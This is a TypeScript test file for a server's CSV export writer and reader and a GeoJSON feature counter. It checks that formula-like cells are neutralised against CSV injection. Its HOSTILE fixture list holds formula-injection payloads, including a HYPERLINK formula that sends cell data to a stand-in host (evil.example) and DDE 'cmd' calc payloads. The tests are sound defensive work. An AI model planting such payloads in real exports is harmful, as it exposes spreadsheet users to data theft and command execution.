/**
 * The one CSV writer of the server's exports: text that a spreadsheet would run as a formula gets a
 * single quote in front (OWASP), numbers our code writes stay numbers, cells are quoted as RFC 4180
 * asks, and reading a written cell back gives the text that was written, quote or not. The reader
 * stops at its limit, reporting that more records follow.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv, readCsvRecords } from '../../server/csv/csvReader.ts';
import {
  csvCell,
  csvLine,
  csvText,
  isFormulaLike,
  neutralised,
  unneutralised,
} from '../../server/csv/csvWriter.ts';
import { countFeatures } from '../../server/featurePoints/geoJsonCount.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|/c calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uFF1D1+1',
];

describe('the CSV writer', () => {
  it('puts a quote in front of every text a spreadsheet would run as a formula', () => {
    for (const text of HOSTILE) {
      expect(isFormulaLike(text)).toBe(true);
      const [cell] = parseCsv(csvCell(text))[0]?.cells ?? [];
      expect(cell).toBe(`'${text}`);
    }
  });

  it('leaves ordinary text and numbers as they are, negative numbers included', () => {
    for (const text of ['plain', '1号塔', "'quoted", 'a-b', 'x=1', '113.94', ''])
      expect(csvCell(text)).toBe(text);
    expect(csvLine([-122.5, -45, 0, 1e21, 113.94])).toBe('-122.5,-45,0,1e+21,113.94');
    // The same as text came from a file, not from our code: nothing vouches for it.
    expect(csvCell('-122.5')).toBe("'-122.5");
  });

  it('quotes cells holding the separator, quotes, line breaks or edge blanks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    expect(csvCell(' edge ')).toBe('" edge "');
    expect(csvCell('=a,"b"')).toBe(`"'=a,""b"""`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('quotes every cell when asked, and writes CRLF lines with an optional BOM', () => {
    expect(csvLine([1, 'a', '=x'], true)).toBe(`"1","a","'=x"`);
    expect(
      csvText(
        [
          ['h1', 'h2'],
          [1, 'b'],
        ],
        { bom: true },
      ),
    ).toBe('\uFEFFh1,h2\r\n1,b\r\n');
    expect(csvText([])).toBe('');
  });

  it('reads back exactly the text written, hostile or not', () => {
    const texts = [...HOSTILE, 'plain', "'=already quoted", "''+x", "'", "'plain", '-', ''];
    for (const text of texts) {
      expect(unneutralised(neutralised(text))).toBe(text);
      const [cell] = parseCsv(`${csvCell(text)},end`)[0]?.cells ?? [];
      expect(unneutralised(cell ?? '')).toBe(text);
    }
    // A quote the writer did not add is kept.
    expect(unneutralised("'plain")).toBe("'plain");
  });
});

describe('the CSV reader', () => {
  it('stops at its limit and says more records follow, blank lines not counted', () => {
    const text = 'h\n\n1\n2\n\n3\n';
    expect(readCsvRecords(text, 4)).toEqual({
      records: [
        { line: 1, cells: ['h'] },
        { line: 3, cells: ['1'] },
        { line: 4, cells: ['2'] },
        { line: 6, cells: ['3'] },
      ],
      more: false,
    });
    const cut = readCsvRecords(text, 3);
    expect(cut.more).toBe(true);
    expect(cut.records.map((r) => r.line)).toEqual([1, 3, 4]);
    expect(readCsvRecords('h\n1\n2', 2).more).toBe(true);
    expect(readCsvRecords('h\n1\n2', 3).more).toBe(false);
  });
});

describe('the GeoJSON feature count', () => {
  const collection = (features: string) =>
    `{"type":"FeatureCollection","name":"x [1,2]","features":[${features}]}`;

  it('counts the features of the top-level object, not nested arrays or strings', () => {
    expect(countFeatures(collection(''), 10)).toBe(0);
    expect(countFeatures(collection('{},{},{}'), 10)).toBe(3);
    const nested = '{"geometry":{"coordinates":[1,2,3]},"properties":{"n":"a,b]\\"},{"}}';
    expect(countFeatures(collection(`${nested},${nested}`), 10)).toBe(2);
    expect(countFeatures(`{"features":[{}],"x":{"features":[{},{}]}}`, 10)).toBe(1);
  });

  it('stops one past the limit, and finds an escaped or repeated key', () => {
    expect(countFeatures(collection(Array(1000).fill('{}').join(',')), 5)).toBe(6);
    const escaped = `{"\\u0066eatures":[${Array(20).fill('{}').join(',')}]}`;
    expect(countFeatures(escaped, 10)).toBe(11);
    expect(countFeatures(`{"features":[{},{}],"features":[{},{}]}`, 3)).toBe(4);
  });
});
